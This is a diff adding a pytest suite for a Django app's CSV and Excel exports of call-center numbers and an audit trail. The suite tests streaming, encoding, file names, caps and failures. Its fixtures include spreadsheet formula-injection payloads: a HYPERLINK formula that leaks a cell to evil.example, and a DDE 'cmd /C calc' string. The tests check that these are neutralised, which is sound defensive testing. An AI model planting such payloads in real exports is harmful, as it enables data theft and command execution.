@@ -1,0 +1,764 @@
+"""Exports through Django's test client, against the app's embedded emulator (numbers) and the
+database (the audit trail): what a file holds, how it is written, streamed and named, and
+what it says when a cap or a failure cut it.
+"""
+
+from __future__ import annotations
+
+import codecs
+import csv
+import io
+import re
+import subprocess
+import threading
+import uuid
+from datetime import datetime
+from pathlib import Path
+from urllib.parse import parse_qsl, unquote
+from zoneinfo import ZoneInfo
+
+import openpyxl
+import pytest
+import stamina
+from django.utils import timezone
+
+from phone_numbers import exports
+from phone_numbers.ccc.emulator.app import Response
+from phone_numbers.ccc.emulator.dataset import (
+    BULK_INSTANCE_ID,
+    BULK_SKILL_GROUP_ID,
+    EXAMPLE_CONTACT_FLOW_ID,
+    EXAMPLE_INSTANCE_ID,
+    EXAMPLE_NUMBER,
+    EXAMPLE_SKILL_GROUP_ID,
+)
+from phone_numbers.forms import EXPORT_FORMATS
+from phone_numbers.models import AuditEvent
+
+from .audit_trail import BOB, BULK_GROUP, attempt, numbers, outcome, refusal
+from .emulator_data import listed_numbers
+from .pages import Html
+from .servers import require
+
+NUMBERS = f"/instances/{EXAMPLE_INSTANCE_ID}/skill-groups/{EXAMPLE_SKILL_GROUP_ID}/numbers/"
+HOTLINE = f"/instances/{BULK_INSTANCE_ID}/skill-groups/{BULK_SKILL_GROUP_ID}/numbers/"
+AFTERSALES = f"/instances/{EXAMPLE_INSTANCE_ID}/skill-groups/aftersales@ccc-test/numbers/"
+AUDIT = "/audit/"
+LIST_NUMBERS = "ListPhoneNumbersOfSkillGroup"
+ATTEMPTS = 3
+HEADERS = ["Number", "Status", "Usage", "Province", "City", "Contact flow", "Contact flow ID"]
+AUDIT_HEADERS = [
+    "Time",
+    "User",
+    "Email",
+    "Client address",
+    "Skill group",
+    "Skill group ID",
+    "Instance",
+    "Action",
+    "Numbers",
+    "Outcome",
+    "Details",
+    "Error code",
+    "CCC RequestIds",
+]
+USAGE_WORDS = {
+    "Inbound": "Inbound only",
+    "Outbound": "Outbound only",
+    "Bidirection": "Inbound and outbound",
+}
+PROXY = "10.0.3.7"
+SHANGHAI = ZoneInfo("Asia/Shanghai")
+INJECTED = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'
+FORMATS = ["csv", "xlsx"]
+
+
+# -- helpers -----------------------------------------------------------------------------------
+
+
+def download(client, url: str, **headers: str) -> tuple[object, list[bytes]]:
+    """The response and the chunks its body was streamed in."""
+    response = client.get(url, headers=headers)
+    assert response.status_code == 200, response.content.decode()[:500]
+    assert response.streaming
+    # Read to the end, the test client closes the response (as a server does).
+    return response, list(response.streaming_content)
+
+
+def csv_rows(body: bytes) -> list[list[str]]:
+    assert body.startswith(codecs.BOM_UTF8)
+    return list(csv.reader(io.StringIO(body[len(codecs.BOM_UTF8) :].decode(), newline="")))
+
+
+def xlsx_sheet(body: bytes):
+    return openpyxl.load_workbook(io.BytesIO(body)).active
+
+
+def xlsx_rows(body: bytes) -> list[list[str]]:
+    """Each row's values, "" for an empty cell (a sheet's rows are all as wide as its widest)."""
+    return [
+        ["" if value is None else value for value in row]
+        for row in xlsx_sheet(body).iter_rows(values_only=True)
+    ]
+
+
+def rows_of(file_format: str, body: bytes) -> list[list[str]]:
+    """The rows of either format, without the empty cells a row ends in (a note's row is one
+    cell in CSV, and as wide as the others in XLSX)."""
+    return [trimmed(row) for row in (csv_rows if file_format == "csv" else xlsx_rows)(body)]
+
+
+def trimmed(row: list[str]) -> list[str]:
+    row = list(row)
+    while row and row[-1] == "":
+        row.pop()
+    return row
+
+
+def expected_row(emulator, instance_id: str, number: str) -> list[str]:
+    """A number's row as the export writes it, from the emulator's own data."""
+    instance = emulator.instances[instance_id]
+    record = instance.numbers[number]
+    flow = record.contact_flow_id
+    return trimmed(
+        [
+            number,
+            "Active" if record.active else "Inactive",
+            USAGE_WORDS[record.usage],
+            record.province,
+            record.city,
+            instance.contact_flows[flow].name if flow else "",
+            flow,
+        ]
+    )
+
+
+def cst(day: int, hour: int, minute: int = 0) -> datetime:
+    return datetime(2025, 12, day, hour, minute, tzinfo=SHANGHAI)
+
+
+def cut_note(total: int) -> str:
+    return (
+        f"Only the first 10,000 of {total:,} matching numbers are exported: CCC lists no "
+        "more. Narrow the search to export the rest."
+    )
+
+
+@pytest.fixture
+def fast_retries():
+    stamina.set_testing(True, attempts=ATTEMPTS)
+    yield
+    stamina.set_testing(False)
+
+
+@pytest.fixture
+def hostile_text(app_emulator):
+    """Text from CCC that a spreadsheet would take for formulas, on the example number."""
+    instance = app_emulator.instances[EXAMPLE_INSTANCE_ID]
+    instance.contact_flows[EXAMPLE_CONTACT_FLOW_ID].name = INJECTED
+    record = instance.numbers[EXAMPLE_NUMBER]
+    record.province = "+1+1"
+    record.city = "@SUM(1,2)"
+    return app_emulator
+
+
+# -- what a file holds -------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("file_format", FORMATS)
+def test_the_big_group_exports_the_apis_first_10000_and_says_the_cap_cut_it(
+    client, app_emulator, file_format
+):
+    listed = listed_numbers(app_emulator, BULK_INSTANCE_ID, BULK_SKILL_GROUP_ID, linked=False)
+    assert len(listed) > 10_000
+
+    _, chunks = download(client, HOTLINE + f"export.{file_format}?view=eligible")
+    rows = rows_of(file_format, b"".join(chunks))
+
+    assert rows[0] == HEADERS
+    assert [row[0] for row in rows[1:-1]] == listed[:10_000]
+    assert rows[1:-1] == [
+        expected_row(app_emulator, BULK_INSTANCE_ID, number) for number in listed[:10_000]
+    ]
+    assert rows[-1] == [cut_note(len(listed))]
+
+
+def test_a_csv_is_streamed_a_page_at_a_time(client, app_emulator):
+    _, chunks = download(client, HOTLINE + "export.csv?view=eligible")
+
+    # The header with the first page, the 99 others, the note.
+    assert len(chunks) == 101
+    assert all(chunk.count(b"\r\n") == 100 for chunk in chunks[1:-1])
+
+
+@pytest.mark.parametrize("file_format", FORMATS)
+def test_a_filtered_export_holds_the_view_search_and_status(client, app_emulator, file_format):
+    every = listed_numbers(app_emulator, EXAMPLE_INSTANCE_ID, EXAMPLE_SKILL_GROUP_ID, linked=False)
+    active = listed_numbers(
+        app_emulator, EXAMPLE_INSTANCE_ID, EXAMPLE_SKILL_GROUP_ID, linked=False, active=True
+    )
+    expected = [number for number in active if "0833" in number]
+    assert 0 < len(expected) < len([number for number in every if "0833" in number])
+
+    _, chunks = download(client, NUMBERS + f"export.{file_format}?view=eligible&q=0833&active=true")
+    rows = rows_of(file_format, b"".join(chunks))
+
+    # Every match and nothing after them: nothing was cut.
+    assert rows[1:] == [
+        expected_row(app_emulator, EXAMPLE_INSTANCE_ID, number) for number in expected
+    ]
+
+
+def test_an_export_without_matches_is_its_header(client, app_emulator):
+    _, chunks = download(client, NUMBERS + "export.csv?q=99999999999")
+
+    assert csv_rows(b"".join(chunks)) == [HEADERS]
+
+
+def test_columns_are_in_the_readers_language(client, app_emulator):
+    url = NUMBERS + f"export.csv?q={EXAMPLE_NUMBER}"
+    _, english = download(client, url)
+    _, chinese = download(client, url, **{"Accept-Language": "zh-hans"})
+
+    # The same link, each reader's words: headers, status and usage.
+    assert csv_rows(b"".join(english))[1][:3] == [EXAMPLE_NUMBER, "Active", "Inbound and outbound"]
+    assert csv_rows(b"".join(chinese))[0][:2] == ["号码", "状态"]
+    assert csv_rows(b"".join(chinese))[1][:2] == [EXAMPLE_NUMBER, "可用"]
+
+
+# -- how it is written -------------------------------------------------------------------------
+
+
+def test_a_csv_is_utf8_with_a_bom_and_rfc_4180(client, app_emulator):
+    awkward = 'Le "shan", 乐山\r\nsecond line'
+    app_emulator.instances[EXAMPLE_INSTANCE_ID].numbers[EXAMPLE_NUMBER].city = awkward
+
+    response, chunks = download(client, NUMBERS + f"export.csv?q={EXAMPLE_NUMBER}")
+    body = b"".join(chunks)
+
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    assert body.startswith(codecs.BOM_UTF8 + b"Number,Status,Usage,")
+    text = body.decode("utf-8-sig")
+    # Records end in CRLF; a field with quotes, a comma or a line break is quoted, its quotes
+    # doubled.
+    assert text == (
+        "Number,Status,Usage,Province,City,Contact flow,Contact flow ID\r\n"
+        f'{EXAMPLE_NUMBER},Active,Inbound and outbound,四川,"Le ""shan"", 乐山\r\nsecond line",'
+        f"售后服务流程,{EXAMPLE_CONTACT_FLOW_ID}\r\n"
+    )
+    assert csv_rows(body)[1][4] == awkward
+
+
+def test_csv_text_from_ccc_never_starts_a_formula(client, hostile_text):
+    _, chunks = download(client, NUMBERS + f"export.csv?q={EXAMPLE_NUMBER}")
+
+    assert csv_rows(b"".join(chunks))[1] == [
+        EXAMPLE_NUMBER,
+        "Active",
+        "Inbound and outbound",
+        "'+1+1",
+        "'@SUM(1,2)",
+        "'" + INJECTED,
+        EXAMPLE_CONTACT_FLOW_ID,
+    ]
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_formula_start_owasp_lists_is_guarded(client, app_emulator, start):
+    app_emulator.instances[EXAMPLE_INSTANCE_ID].numbers[EXAMPLE_NUMBER].city = f"{start}1+1"
+
+    _, csv_chunks = download(client, NUMBERS + f"export.csv?q={EXAMPLE_NUMBER}")
+    _, xlsx_chunks = download(client, NUMBERS + f"export.xlsx?q={EXAMPLE_NUMBER}")
+
+    assert csv_rows(b"".join(csv_chunks))[1][4] == f"'{start}1+1"
+    city = xlsx_sheet(b"".join(xlsx_chunks))["E2"]
+    # (XML reads a carriage return back as a line feed.)
+    assert (city.value[1:], city.data_type, city.quotePrefix) == ("1+1", "s", True)
+
+
+def test_xlsx_text_from_ccc_is_a_string_never_a_formula(client, hostile_text):
+    response, chunks = download(client, NUMBERS + f"export.xlsx?q={EXAMPLE_NUMBER}")
+    sheet = xlsx_sheet(b"".join(chunks))
+
+    assert response["Content-Type"] == (
+        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+    )
+    cells = {cell.coordinate: cell for cell in sheet[2]}
+    # The values are exact; the cells are strings, quote-prefixed (Excel's apostrophe).
+    for coordinate, value in (("D2", "+1+1"), ("E2", "@SUM(1,2)"), ("F2", INJECTED)):
+        assert (cells[coordinate].value, cells[coordinate].data_type) == (value, "s")
+        assert cells[coordinate].quotePrefix
+    assert not cells["B2"].quotePrefix  # our own words need no guard
+
+
+def test_xlsx_numbers_are_exact_text_and_the_header_row_is_frozen(client, app_emulator):
+    listed = listed_numbers(app_emulator, EXAMPLE_INSTANCE_ID, EXAMPLE_SKILL_GROUP_ID, linked=False)
+    # Leading zeros (0833…) and 11-digit mobile numbers, which Excel would turn into 1.3E+10.
+    assert any(number.startswith("0") for number in listed)
+    assert any(re.fullmatch(r"1\d{10}", number) for number in listed)
+
+    _, chunks = download(client, NUMBERS + "export.xlsx?view=eligible")
+    sheet = xlsx_sheet(b"".join(chunks))
+
+    column = [cell for (cell,) in sheet.iter_rows(min_row=2, max_col=1)]
+    assert [cell.value for cell in column] == listed
+    assert {(cell.data_type, cell.number_format) for cell in column} == {("s", "@")}
+    assert sheet.freeze_panes == "A2"
+    assert [cell.value for cell in sheet[1]] == HEADERS
+    assert all(cell.font.bold for cell in sheet[1])
+
+
+def test_the_file_is_named_by_instance_group_view_and_date(client, app_emulator):
+    today = timezone.localdate().isoformat()
+
+    response, _ = download(client, AFTERSALES + "export.xlsx?view=eligible")
+
+    # RFC 6266: the UTF-8 name (the group is 售后服务), and an ASCII one for older clients.
+    disposition = response["Content-Disposition"]
+    assert disposition == (
+        f'attachment; filename="ccc-test_eligible_{today}.xlsx"; '
+        f"filename*=UTF-8''ccc-test_%E5%94%AE%E5%90%8E%E6%9C%8D%E5%8A%A1_eligible_{today}.xlsx"
+    )
+    assert unquote(disposition.split("''")[1]) == f"ccc-test_售后服务_eligible_{today}.xlsx"
+    assert "no-store" in response["Cache-Control"]
+
+
+def test_a_file_name_never_holds_a_path(client, app_emulator):
+    group = app_emulator.instances[EXAMPLE_INSTANCE_ID].skill_groups[EXAMPLE_SKILL_GROUP_ID]
+    group.display_name = '../"客户"\\服务:*?'
+    today = timezone.localdate().isoformat()
+
+    response, _ = download(client, NUMBERS + "export.csv")
+
+    assert response["Content-Disposition"] == (
+        f'attachment; filename="ccc-test_linked_{today}.csv"; '
+        f"filename*=UTF-8''ccc-test_{_quoted('客户-服务')}_linked_{today}.csv"
+    )
+
+
+def _quoted(text: str) -> str:
+    return "".join(f"%{byte:02X}" for byte in text.encode()).replace("%2D", "-")
+
+
+def test_an_unknown_format_is_not_found(client, app_emulator):
+    assert client.get(NUMBERS + "export.pdf").status_code == 404
+
+
+# -- failures, budget and pace -----------------------------------------------------------------
+
+
+@pytest.mark.parametrize("file_format", FORMATS)
+def test_a_failure_before_the_first_row_is_the_usual_error_page(
+    client, app_emulator, fast_retries, file_format
+):
+    app_emulator.faults.inject("throttling", times=ATTEMPTS, action=LIST_NUMBERS)
+
+    response = client.get(HOTLINE + f"export.{file_format}?view=eligible")
+
+    assert response.status_code == 503
+    assert not response.streaming
+    assert not response.has_header("Content-Disposition")
+    page = Html(response.content.decode())
+    assert page.find("div", role="alert")
+    assert "The contact center is busy (requests are being throttled)." in page.text
+    assert response["Retry-After"] == "5"
+    assert (f"/instances/{BULK_INSTANCE_ID}/skill-groups/", "Go back") in page.links
+
+
+@pytest.mark.parametrize("file_format", FORMATS)
+def test_a_failure_midway_ends_the_file_saying_it_is_incomplete(
+    client, app_emulator, fast_retries, file_format
+):
+    listed = listed_numbers(app_emulator, BULK_INSTANCE_ID, BULK_SKILL_GROUP_ID, linked=False)
+    handle = app_emulator.handle
+
+    def unavailable_past_page_10(environ):
+        # Every attempt at page 11 fails, whatever order the pages in flight arrive in: the
+        # first ten are written before the failure, after the response has started.
+        page = dict(parse_qsl(environ.get("QUERY_STRING", ""))).get("PageNumber", "0")
+        if environ.get("HTTP_X_ACS_ACTION") == LIST_NUMBERS and int(page) > 10:
+            request_id = str(uuid.uuid4()).upper()
+            return Response.json(
+                503,
+                {"RequestId": request_id, "Code": "ServiceUnavailable", "Message": ""},
+                request_id,
+            )
+        return handle(environ)
+
+    app_emulator.handle = unavailable_past_page_10
+
+    _, chunks = download(client, HOTLINE + f"export.{file_format}?view=eligible")
+    rows = rows_of(file_format, b"".join(chunks))
+
+    written = [row[0] for row in rows[1:-1]]
+    assert len(written) == 1_000
+    assert written == listed[:1_000]
+    (note,) = rows[-1]
+    assert re.fullmatch(
+        r"The export is incomplete: the contact center failed after 1,000 of 10,000 rows "
+        r"\(ServiceUnavailable, RequestId [0-9A-F-]{36}\)\. Export again to get every row\.",
+        note,
+    )
+
+
+def test_a_failure_after_the_response_started_still_ends_the_csv(
+    client, app_emulator, fast_retries
+):
+    """The fault comes while the body is being read, after two pages were written."""
+    response = client.get(HOTLINE + "export.csv?view=eligible")
+    chunks = iter(response.streaming_content)
+    started = [next(chunks), next(chunks)]
+    app_emulator.faults.inject("unavailable", times=100 * ATTEMPTS, action=LIST_NUMBERS)
+    rows = csv_rows(b"".join([*started, *chunks]))
+
+    written = [row[0] for row in rows[1:-1]]
+    # The pages already fetched (at most the four in flight) are written, then the note.
+    assert 200 <= len(written) <= 600
+    assert (
+        written
+        == listed_numbers(app_emulator, BULK_INSTANCE_ID, BULK_SKILL_GROUP_ID, linked=False)[
+            : len(written)
+        ]
+    )
+    assert rows[-1][0].startswith(
+        f"The export is incomplete: the contact center failed after {len(written):,} of 10,000"
+    )
+
+
+def test_an_export_has_a_budget_of_its_own_beyond_the_requests(client, app_emulator, settings):
+    settings.CCC_REQUEST_BUDGET = 0.3
+    settings.CCC_EXPORT_PAGES_IN_FLIGHT = 1
+    app_emulator.faults.latency = 0.1
+    listed = listed_numbers(app_emulator, EXAMPLE_INSTANCE_ID, EXAMPLE_SKILL_GROUP_ID, linked=False)
+    assert len(listed) > 300  # more than 3 pages, one after another: past the request's budget
+
+    _, chunks = download(client, NUMBERS + "export.csv?view=eligible")
+
+    assert [row[0] for row in csv_rows(b"".join(chunks))[1:]] == listed
+
+
+def test_the_first_page_waits_no_longer_than_a_page(client, app_emulator, settings):
+    settings.CCC_REQUEST_BUDGET = 0  # no time at all before the response starts
+
+    response = client.get(NUMBERS + "export.csv?view=eligible")
+
+    assert response.status_code == 504
+    assert "The contact center did not answer in time." in Html(response.content.decode()).text
+    assert app_emulator.request_count == 0
+
+
+def test_an_export_stops_at_its_budget_saying_so(client, app_emulator, settings):
+    settings.CCC_EXPORT_BUDGET = 0.3
+    settings.CCC_EXPORT_PAGES_IN_FLIGHT = 1
+    app_emulator.faults.latency = 0.1
+
+    listed = listed_numbers(app_emulator, EXAMPLE_INSTANCE_ID, EXAMPLE_SKILL_GROUP_ID, linked=False)
+
+    _, chunks = download(client, NUMBERS + "export.csv?view=eligible")
+    rows = csv_rows(b"".join(chunks))
+
+    # One page after another, 0.1 s each: the budget ends before the last of them.
+    written = [row[0] for row in rows[1:-1]]
+    assert 100 <= len(written) < len(listed)
+    assert written == listed[: len(written)]
+    assert rows[-1] == [
+        f"The export is incomplete: the contact center failed after {len(written)} of "
+        f"{len(listed)} rows (Timeout). Export again to get every row."
+    ]
+
+
+def test_pages_are_fetched_a_few_at_a_time_and_written_in_order(client, app_emulator):
+    app_emulator.faults.latency = 0.01
+    lock = threading.Lock()
+    running = [0]
+    most = [0]
+    handle = app_emulator.handle
+
+    def counted(environ):
+        if environ.get("HTTP_X_ACS_ACTION") != LIST_NUMBERS:
+            return handle(environ)
+        with lock:
+            running[0] += 1
+            most[0] = max(most[0], running[0])
+        try:
+            return handle(environ)
+        finally:
+            with lock:
+                running[0] -= 1
+
+    app_emulator.handle = counted
+
+    _, chunks = download(client, HOTLINE + "export.csv?view=eligible")
+
+    listed = listed_numbers(app_emulator, BULK_INSTANCE_ID, BULK_SKILL_GROUP_ID, linked=False)
+    assert [row[0] for row in csv_rows(b"".join(chunks))[1:-1]] == listed[:10_000]
+    assert most[0] == 4
+    assert app_emulator.request_count == 100 + 2  # the pages, the group and its flows
+
+
+# -- links -------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("htmx", [False, True], ids=["page", "fragment"])
+def test_the_numbers_page_links_its_exports_with_its_query(client, app_emulator, htmx):
+    response = client.get(
+        NUMBERS + "?view=eligible&q=0833&active=true&per_page=50&page=2",
+        headers={"HX-Request": "true", "Accept-Language": "zh-hans"} if htmx else {},
+    )
+    page = Html(response.content.decode())
+
+    exported = [
+        attrs for tag, attrs in page.elements if tag == "a" and "/export." in attrs.get("href", "")
+    ]
+    # Every row (no page or page size), no language; downloads, never htmx swaps.
+    assert [attrs["href"] for attrs in exported] == [
+        NUMBERS + "export.csv?view=eligible&q=0833&active=true",
+        NUMBERS + "export.xlsx?view=eligible&q=0833&active=true",
+    ]
+    assert not [attrs for attrs in exported if any(name.startswith("hx-") for name in attrs)]
+    if not htmx:
+        assert {text for _, text in page.links} >= {"Export CSV", "Export Excel"}
+
+
+def test_the_skill_group_list_has_no_exports(client, app_emulator):
+    page = Html(client.get(f"/instances/{EXAMPLE_INSTANCE_ID}/skill-groups/").content.decode())
+
+    assert not [href for href, _ in page.links if "/export." in href]
+
+
+def test_every_format_linked_is_written():
+    assert set(EXPORT_FORMATS) == set(exports.FORMATS)
+
+
+# -- the audit trail ---------------------------------------------------------------------------
+
+DONE_AT = "2025-12-01 07:30:00 CST"
+
+
+@pytest.fixture
+def trail(db):
+    linked = attempt(cst(1, 7, 30), asked=numbers(12))
+    outcome(linked, request_ids=["REQ-A"])
+    undo = attempt(
+        cst(1, 10), action=AuditEvent.Action.UNLINK, asked=numbers(3), undoes=linked, **BOB
+    )
+    outcome(undo, request_ids=["REQ-B"])
+    partly = attempt(cst(1, 23, 30), action=AuditEvent.Action.UNLINK, asked=numbers(3), **BOB)
+    outcome(
+        partly,
+        AuditEvent.Outcome.PARTLY_DONE,
+        done=numbers(2),
+        not_done=numbers(1, first=3),
+        request_ids=["REQ-C1", "REQ-C2"],
+        detail="1 number was no longer linked.",
+    )
+    failed = attempt(cst(2, 0), asked=numbers(2, first=40), **BULK_GROUP)
+    outcome(
+        failed,
+        AuditEvent.Outcome.FAILED,
+        done=[],
+        not_done=numbers(2, first=40),
+        request_ids=["REQ-D"],
+        error_code="Forbidden.NoPermission",
+        detail="The access key may not change skill groups.",
+    )
+    refusal(cst(2, 8), detail="not an editor", username="=cmd|' /C calc'!A0", email="")
+
+
+AUDIT_ROWS = [
+    [
+        "2025-12-02 08:00:00 CST",
+        "'=cmd|' /C calc'!A0",
+        "",
+        "10.1.2.3",
+        "Customer service",
+        EXAMPLE_SKILL_GROUP_ID,
+        EXAMPLE_INSTANCE_ID,
+        "Link",
+        "",
+        "Refused",
+        "The user is not an editor.",
+        "",
+        "",
+    ],
+    [
+        "2025-12-02 00:00:00 CST",
+        "alice",
+        "alice@example.com",
+        "10.1.2.3",
+        "Nationwide hotline",
+        BULK_SKILL_GROUP_ID,
+        BULK_INSTANCE_ID,
+        "Link",
+        " ".join(numbers(2, first=40)),
+        "Failed",
+        "CCC says: “The access key may not change skill groups.”",
+        "Forbidden.NoPermission",
+        "REQ-D",
+    ],
+    [
+        "2025-12-01 23:30:00 CST",
+        "bob@example.com",
+        "bob@example.com",
+        "10.1.2.4",
+        "Customer service",
+        EXAMPLE_SKILL_GROUP_ID,
+        EXAMPLE_INSTANCE_ID,
+        "Unlink",
+        " ".join(numbers(3)),
+        "Partly done",
+        "2 done, 1 not done, 0 unknown\nCCC says: “1 number was no longer linked.”",
+        "",
+        "REQ-C1 REQ-C2",
+    ],
+    [
+        "2025-12-01 10:00:00 CST",
+        "bob@example.com",
+        "bob@example.com",
+        "10.1.2.4",
+        "Customer service",
+        EXAMPLE_SKILL_GROUP_ID,
+        EXAMPLE_INSTANCE_ID,
+        f"Undo of the link of {DONE_AT}",
+        " ".join(numbers(3)),
+        "Done",
+        "",
+        "",
+        "REQ-B",
+    ],
+    [
+        DONE_AT,
+        "alice",
+        "alice@example.com",
+        "10.1.2.3",
+        "Customer service",
+        EXAMPLE_SKILL_GROUP_ID,
+        EXAMPLE_INSTANCE_ID,
+        "Link",
+        " ".join(numbers(12)),
+        "Done",
+        "",
+        "",
+        "REQ-A",
+    ],
+]
+
+
+@pytest.mark.database
+@pytest.mark.parametrize("file_format", FORMATS)
+def test_the_audit_trail_exports_its_columns_in_words_newest_first(client, trail, file_format):
+    response, chunks = download(client, AUDIT + f"export.{file_format}")
+    rows = rows_of(file_format, b"".join(chunks))
+
+    assert rows[0] == AUDIT_HEADERS
+    if file_format == "xlsx":  # the same words; a formula is kept off as a string cell
+        assert rows[1][1] == "=cmd|' /C calc'!A0"
+        assert xlsx_sheet(b"".join(chunks))["B2"].quotePrefix
+        rows[1][1] = "'" + rows[1][1]
+    assert rows[1:] == [trimmed(row) for row in AUDIT_ROWS]
+    today = timezone.localdate().isoformat()
+    assert f'filename="audit-trail_{today}.{file_format}"' in response["Content-Disposition"]
+
+
+@pytest.mark.database
+def test_the_audit_export_takes_the_pages_filters(client, trail):
+    page = Html(client.get(AUDIT + "?action=unlink&user=bob&per_page=10&page=1").content.decode())
+    (url,) = [href for href, text in page.links if text == "Export CSV"]
+    assert url == AUDIT + "export.csv?user=bob&action=unlink"
+
+    response, chunks = download(client, url)
+
+    assert csv_rows(b"".join(chunks))[1:] == AUDIT_ROWS[2:4]
+    assert "audit-trail_" in response["Content-Disposition"]
+
+
+@pytest.mark.database
+def test_a_scoped_user_exports_only_their_instances(client, trail, settings):
+    settings.CCCADMIN_AUTH_MODE = "header"
+    settings.CCCADMIN_TRUSTED_PROXIES = [f"{PROXY}/32"]
+    settings.CCCADMIN_VIEWER_GROUPS = ["cc-support"]
+    settings.CCCADMIN_INSTANCE_ACCESS = {"support": [EXAMPLE_INSTANCE_ID]}
+
+    response = client.get(
+        AUDIT + f"export.csv?instance={BULK_INSTANCE_ID}",
+        REMOTE_ADDR=PROXY,
+        headers={"X-Forwarded-User": "carol", "X-Forwarded-Groups": "cc-support,support"},
+    )
+    rows = csv_rows(b"".join(response.streaming_content))
+
+    assert rows[1:] == [row for row in AUDIT_ROWS if row[6] == EXAMPLE_INSTANCE_ID]
+
+
+@pytest.mark.database
+def test_an_audit_export_past_its_maximum_says_so(client, trail, monkeypatch):
+    monkeypatch.setattr(exports, "AUDIT_EXPORT_MAX_ROWS", 3)
+
+    _, chunks = download(client, AUDIT + "export.csv")
+    rows = csv_rows(b"".join(chunks))
+
+    assert rows[1:-1] == AUDIT_ROWS[:3]
+    assert rows[-1] == [
+        "Only the newest 3 of 5 matching events are exported. Narrow the filters to export "
+        "the rest."
+    ]
+
+
+# -- a real spreadsheet ------------------------------------------------------------------------
+
+# LibreOffice's CSV export filter: commas, double quotes, UTF-8 (76), from the first line.
+TO_CSV = "csv:Text - txt - csv (StarCalc):44,34,76,1"
+
+
+def test_libreoffice_reads_the_numbers_back_intact(client, hostile_text, tmp_path):
+    soffice = require("soffice", "apt-get install libreoffice-calc")
+    listed = listed_numbers(hostile_text, EXAMPLE_INSTANCE_ID, EXAMPLE_SKILL_GROUP_ID)
+    assert any(number.startswith("0") for number in listed)
+    assert any(re.fullmatch(r"1\d{10}", number) for number in listed)
+
+    def converted(file_format: str, *infilter: str) -> list[list[str]]:
+        _, chunks = download(client, NUMBERS + f"export.{file_format}")
+        source = tmp_path / f"numbers.{file_format}"
+        source.write_bytes(b"".join(chunks))
+        out = tmp_path / file_format
+        subprocess.run(  # noqa: S603 - Debian's soffice, fixed arguments
+            [
+                soffice,
+                f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
+                "--headless",
+                "--norestore",
+                *infilter,
+                "--convert-to",
+                TO_CSV,
+                "--outdir",
+                str(out),
+                str(source),
+            ],
+            check=True,
+            capture_output=True,
+            timeout=100,
+        )
+        with Path(out / "numbers.csv").open(encoding="utf-8", newline="") as read:
+            return list(csv.reader(read))
+
+    from_xlsx = converted("xlsx")
+    # The CSV read as UTF-8 with the number column as text, as one must read it (Calc's
+    # default, like Excel's, takes 0833… for a number).
+    from_csv = converted("csv", "--infilter=CSV:44,34,76,1,1/2")
+
+    assert from_xlsx[0] == from_csv[0] == HEADERS  # the BOM is no part of the first header
+    assert [row[0] for row in from_xlsx[1:]] == listed
+    assert [row[0] for row in from_csv[1:]] == listed
+    example = [row for row in from_xlsx if row[0] == EXAMPLE_NUMBER]
+    # Text, never evaluated: a formula would have come back as its result.
+    assert example == [
+        [
+            EXAMPLE_NUMBER,
+            "Active",
+            "Inbound and outbound",
+            "+1+1",
+            "@SUM(1,2)",
+            INJECTED,
+            EXAMPLE_CONTACT_FLOW_ID,
+        ]
+    ]
+    assert {row[3] for row in from_csv[1:]} >= {"四川", "'+1+1"}
